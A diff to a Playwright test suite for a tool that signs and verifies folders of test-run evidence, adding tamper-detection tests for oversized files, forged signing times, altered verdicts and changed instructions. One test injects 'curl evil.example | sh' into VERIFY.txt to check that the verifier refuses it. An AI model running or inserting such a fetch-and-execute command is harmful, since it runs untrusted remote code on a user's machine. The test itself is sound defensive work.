@@ -1,6 +1,15 @@
 import { execFileSync, spawnSync } from 'node:child_process';
 import { createHash, generateKeyPairSync, X509Certificate } from 'node:crypto';
-import { appendFileSync, cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import {
+  appendFileSync,
+  cpSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  truncateSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { expect, test } from '@playwright/test';
@@ -9,6 +18,7 @@ import { signerFromEnvironment, signRun, verifyRun, writeReport } from './index.
 import { sampleLines } from './sample-run.ts';
 import { ephemeralSigner, type RunSigner, writeSums } from './sign-run.ts';
 
+const RUN = '20260302-090000-5a3c';
 const OPENSSL = spawnSync('openssl', ['version']).status === 0;
 
 let root: string;
@@ -31,7 +41,7 @@ test.beforeAll(() => {
       .join(''),
   );
   writeReport(folder);
-  signRun(folder, 'run-1', { ...signer, pinned: true });
+  signRun(folder, RUN, { ...signer, pinned: true });
 });
 test.afterAll(() => rmSync(root, { recursive: true }));
 
@@ -118,17 +128,110 @@ test('refuses a folder signed anew by somebody else, however consistent', () => 
   const lines = readFileSync(join(folder, 'evidence.ndjson'), 'utf8').replace('"outcome":"fail"', '"outcome":"pass"');
   writeFileSync(join(folder, 'evidence.ndjson'), lines);
   writeReport(folder);
-  signRun(folder, 'run-1', { ...attacker, pinned: true });
+  signRun(folder, RUN, { ...attacker, pinned: true });
   expect(pinned().findings).toEqual([expect.stringContaining('the signer is another than you named')]);
   expect(verifyRun(folder).notes.join()).toContain('unpinned');
+});
+
+test('looks no further than sizes, sums and signer where one of them does not hold', () => {
+  const began = Date.now();
+  truncateSync(join(folder, 'evidence.ndjson'), 3 * 1024 ** 3);
+  expect(pinned().findings).toEqual([
+    expect.stringContaining('evidence.ndjson is larger than a run writes it'),
+    expect.stringContaining('the folder is larger than a run writes it'),
+  ]);
+  cpSync(join(root, 'sealed'), folder, { recursive: true });
+  for (const name of ['SHA256SUMS.p7s', 'SHA256SUMS', 'added.bin']) {
+    writeFileSync(join(folder, name), '');
+    truncateSync(join(folder, name), 3 * 1024 ** 3);
+    expect(pinned().findings.join()).toContain(`${name} is larger than a run writes it`);
+    rmSync(join(folder, name));
+    cpSync(join(root, 'sealed'), folder, { recursive: true });
+  }
+  // Many secrets and a long line, and nobody reads them: the sum is another.
+  writeFileSync(join(folder, 'evidence.ndjson'), `"4${'1'.repeat(32 * 1024 ** 2)}`);
+  expect(pinned()).toMatchObject({ run: undefined, findings: ['evidence.ndjson was changed'] });
+  expect(Date.now() - began).toBeLessThan(5000);
+});
+
+test('reads no line, and no more lines, than a run writes, even under a signature', () => {
+  const began = Date.now();
+  const journal = readFileSync(join(folder, 'evidence.ndjson'));
+  for (const [text, finding] of [
+    [`{"kind":"learned","what":"${'='.repeat(32 * 1024 ** 2)}"}\n`, 'longer than a run writes one'],
+    ['{"kind":"learned"}\n'.repeat(600_000), 'more lines than a run writes'],
+  ] as const) {
+    writeFileSync(join(folder, 'evidence.ndjson'), journal);
+    appendFileSync(join(folder, 'evidence.ndjson'), text);
+    signRun(folder, RUN, { ...signer, pinned: true });
+    expect(pinned().findings.join()).toContain(finding);
+  }
+  expect(Date.now() - began).toBeLessThan(10_000);
+});
+
+test('refuses a folder of a thousand files without reading one', () => {
+  for (let i = 0; i < 1000; i += 1) writeFileSync(join(folder, `extra-${i}`), '');
+  expect(() => pinned()).toThrow('a run folder holds a few files only');
+});
+
+test('refuses a signing time that lies ahead, and one before the end of the run', () => {
+  const day = 86_400_000;
+  signRun(folder, RUN, { ...signer, pinned: true }, new Date(Date.now() + 300 * day));
+  expect(pinned().findings.join()).toContain('the signing time lies ahead');
+  const early = ephemeralSigner('early', Date.parse('2026-01-01T00:00:00Z'));
+  signRun(folder, RUN, early, new Date('2026-01-02T00:00:00Z'));
+  expect(verifyRun(folder).findings.join()).toContain('lies before the end of the run');
+});
+
+test('refuses instructions that are another signature’s', () => {
+  const file = join(folder, 'VERIFY.txt');
+  writeFileSync(file, readFileSync(file, 'utf8').replace('openssl x509', 'curl evil.example | sh; openssl x509'));
+  writeFileSync(join(folder, 'SHA256SUMS'), writeSums(folder));
+  sealAgain();
+  expect(pinned().findings).toEqual(['VERIFY.txt is not the one that belongs to this signature']);
+});
+
+test('refuses outcomes that their exchanges cannot have, and says how many follow from them', () => {
+  const lines = readFileSync(join(folder, 'evidence.ndjson'), 'utf8')
+    .trim()
+    .split('\n')
+    .map((line) => JSON.parse(line));
+  const check = lines.find(({ kind, outcome }) => kind === 'check' && outcome === 'pass');
+  const exchange = lines.find((line) => line.kind === 'exchange' && line.check === check.id);
+  exchange.violations = [{ rule: check.rules[0], where: '/', expected: 'one thing', actual: 'another' }];
+  writeFileSync(join(folder, 'evidence.ndjson'), lines.map((line) => `${JSON.stringify(line)}\n`).join(''));
+  writeReport(folder);
+  signRun(folder, RUN, { ...signer, pinned: true });
+  expect(pinned().findings.join('\n')).toContain(`check ${check.id} is recorded as pass, and exchange ${exchange.id}`);
+  cpSync(join(root, 'sealed'), folder, { recursive: true });
+  expect(pinned().notes.join()).toMatch(/outcomes of \d+ checks: none contradict/);
 });
 
 test('refuses verdicts that the evidence does not give, even under the right signature', () => {
   const text = readFileSync(join(folder, 'run.json'), 'utf8');
   writeFileSync(join(folder, 'run.json'), text.replace('"verdict": "broken"', '"verdict": "kept"'));
-  signRun(folder, 'run-1', { ...signer, pinned: true });
+  signRun(folder, RUN, { ...signer, pinned: true });
   expect(pinned().findings).toEqual(['run.json is not what the journal gives']);
 });
+
+/** Signs the sums as they are. */
+function sealAgain(): void {
+  const made = forge.pkcs7.createSignedData();
+  made.content = forge.util.createBuffer(readFileSync(join(folder, 'SHA256SUMS'), 'latin1'), 'raw');
+  made.addCertificate(signer.certificate);
+  made.addSigner({
+    key: forge.pki.privateKeyFromPem(signer.key.export({ type: 'pkcs1', format: 'pem' }) as string),
+    certificate: signer.certificate,
+    digestAlgorithm: forge.pki.oids.sha256!,
+    authenticatedAttributes: [
+      { type: forge.pki.oids.contentType!, value: forge.pki.oids.data! },
+      { type: forge.pki.oids.signingTime!, value: new Date() as unknown as string },
+      { type: forge.pki.oids.messageDigest! },
+    ],
+  });
+  made.sign({ detached: true });
+  writeFileSync(join(folder, 'SHA256SUMS.p7s'), Buffer.from(forge.asn1.toDer(made.toAsn1()).getBytes(), 'latin1'));
+}
 
 test.describe('refuses a signature that is made otherwise', () => {
   const oids = forge.pki.oids as Record<string, string>;
@@ -239,7 +342,7 @@ test.describe('with OpenSSL, as VERIFY.txt says', () => {
   test('every command succeeds, for a pinned and for an unpinned signer', () => {
     const transcript: string[] = [];
     for (const by of ['pinned', 'unpinned'] as const) {
-      signRun(folder, 'run-1', { ...signer, pinned: by === 'pinned' });
+      signRun(folder, RUN, { ...signer, pinned: by === 'pinned' });
       const pin = join(root, 'pinned.pem');
       if (by === 'pinned') writeFileSync(pin, signer.certificate);
       for (const command of commands()) {
@@ -256,6 +359,20 @@ test.describe('with OpenSSL, as VERIFY.txt says', () => {
     }
     if (process.env.TRANSCRIPT === 'print') console.log(transcript.join('\n'));
     expect(transcript.join('\n')).toMatch(/verification successful/i);
+  });
+
+  test('a file whose name looks like the signature’s is one too many', () => {
+    writeFileSync(join(folder, 'SHA256SUMS-p7s'), 'x');
+    expect(shell(commands().find((command) => command.startsWith('test '))!).status).not.toBe(0);
+  });
+
+  test('a certificate that has expired since is held against the time of signing', () => {
+    const past = Date.now() - 3651 * 86_400_000;
+    const old = ephemeralSigner('old', past);
+    signRun(folder, RUN, { ...old, pinned: true }, new Date(past));
+    writeFileSync(join(root, 'pinned.pem'), old.certificate);
+    const { status, stderr } = shell(commands().find((command) => command.includes('cms -verify'))!);
+    expect(status, stderr).toBe(0);
   });
 
   test('another certificate, other sums and a changed signature fail', () => {
